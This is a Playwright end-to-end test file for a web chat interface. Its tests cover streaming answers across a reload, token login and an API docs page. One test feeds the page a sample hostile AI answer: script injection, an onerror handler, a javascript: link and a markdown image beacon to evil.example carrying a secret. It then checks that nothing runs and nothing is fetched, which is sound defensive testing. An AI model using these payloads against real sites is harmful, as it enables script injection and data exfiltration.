import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { type Browser, chromium, type Page } from "playwright-core";
import { chromiumPath } from "../setup/chromium.ts";
import { until } from "../until.ts";
import { openWorld, type World } from "./open-world.ts";

let world: World;
let browser: Browser;
let complaints: string[];

beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: await chromiumPath(),
    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
  });
});
afterAll(() => browser.close());
beforeEach(async () => {
  world = await openWorld();
  complaints = [];
});
afterEach(async () => {
  await Promise.all(browser.contexts().map((context) => context.close()));
  await world.close();
  expect(complaints).toEqual([]);
});

/** Opens the page; whatever the browser complains of fails the test at its end. */
async function open(url: string): Promise<Page> {
  const page = await browser.newPage();
  page.on("pageerror", (error) => complaints.push(error.message));
  page.on("console", (line) => {
    if (line.type() === "error") complaints.push(line.text());
  });
  await page.goto(url);
  return page;
}

async function say(page: Page, text: string): Promise<void> {
  await page.getByRole("textbox", { name: "Message" }).fill(text);
  await page.keyboard.press("Enter");
}

const answers = (page: Page) => page.getByTestId("answer");

test("someone opens the page, asks, sees the answer grow, reloads in the middle, and has it all at the end", async () => {
  const { url } = await world.start();
  const page = await open(url);
  world.ai.answer = () => "Here is **code**:\n\n```ts\nconst x = 1;\n```\n\nand that is all";
  world.ai.hold();
  await say(page, "show me code");
  await until(() => world.ai.running > 0, "the AI is asked", 30_000);
  world.ai.release(4);
  await page.getByTestId("draft").getByText("Here is").waitFor();
  await page.reload();
  world.ai.release();
  await page.getByText("and that is all").first().waitFor();
  await answers(page).first().waitFor();
  expect(await answers(page).first().locator("strong").innerText()).toBe("code");
  expect(await answers(page).first().locator("pre").innerText()).toContain("const x = 1;");
  expect(await answers(page).count()).toBe(1);
});

test("a hostile answer runs nothing and fetches nothing", async () => {
  const { url } = await world.start();
  const page = await open(url);
  const outside: string[] = [];
  page.on("request", (request) => request.url().startsWith(url) || outside.push(request.url()));
  world.ai.answer = () =>
    `<script>document.title="owned"</script><img src=x onerror="document.title='owned'">[a](javascript:document.title='owned')\n\n![pixel](https://evil.example/p.png?secret)\n\nstill here`;
  await say(page, "attack me");
  await page.getByText("still here").first().waitFor();
  await answers(page).first().waitFor();
  expect(await page.title()).not.toBe("owned");
  expect(await answers(page).locator("script, img, iframe").count()).toBe(0);
  expect(outside).toEqual([]);
});

test("with an access token the page asks for it, once", async () => {
  const { url } = await world.start({ WEB_ACCESS_TOKEN: "a long enough token" });
  const page = await open(url);
  await page.getByLabel(/token/i).fill("a long enough token");
  await page.keyboard.press("Enter");
  await page.getByRole("textbox", { name: "Message" }).waitFor();
  await say(page, "hello");
  await page.getByText("You said: hello").first().waitFor();
  await page.reload();
  await until(() => answers(page).count(), "still logged in");
});

test("the API's description can be read in the browser", async () => {
  const { url } = await world.start();
  const page = await open(`${url}/docs`);
  await page.getByText("/api/chat/messages").first().waitFor();
});
